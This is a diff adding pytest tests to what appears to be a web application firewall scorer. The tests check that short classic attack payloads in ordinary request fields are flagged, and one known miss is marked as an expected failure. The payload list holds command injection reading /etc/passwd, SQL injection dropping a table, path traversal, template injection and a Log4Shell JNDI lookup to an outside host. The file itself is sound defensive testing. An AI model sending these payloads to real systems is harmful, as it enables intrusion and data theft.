@@ -60,3 +60,26 @@ def test_passes_realistic_benign_requests(scorer) -> None:
     results = scorer.score_batch(list(BENIGN.values()))
     flagged = {name: (round(r.score, 4), r.top_tokens) for name, r in zip(BENIGN, results) if r.score >= scorer.threshold}
     assert not flagged, f"flagged at threshold {scorer.threshold:.4f}: {flagged}"
+
+
+# Short classic payloads in ordinary fields. A trial model trained with short benign
+# values in the attack corpora's fields (corpus_twins) let most of these pass while its
+# corpus figures barely moved: this guards against that kind of regression.
+SHORT_PAYLOADS = ("127.0.0.1;cat /etc/passwd", "`id`", "admin'--", "../../etc/passwd", "{{7*7}}",
+                  "${jndi:ldap://x.com/a}", "1; drop table users")
+
+
+KNOWN_MISS = pytest.mark.xfail(
+    strict=True, reason="waf-default-4 passes `1; drop table users` (0.006) and `id` in backticks (0.82) as file= on /files",
+)
+
+
+@pytest.mark.parametrize(
+    "path,field", [("/ping", "host"), ("/account", "username"), pytest.param("/files", "file", marks=KNOWN_MISS)]
+)
+def test_blocks_short_classic_payloads_in_any_field(scorer, path: str, field: str) -> None:
+    from urllib.parse import quote
+
+    views = [RequestView("GET", path, f"{field}={quote(p)}") for p in SHORT_PAYLOADS]
+    missed = {p: round(r.score, 3) for p, r in zip(SHORT_PAYLOADS, scorer.score_batch(views)) if r.score < scorer.threshold}
+    assert not missed, f"{field}= missed at threshold {scorer.threshold:.3f}: {missed}"
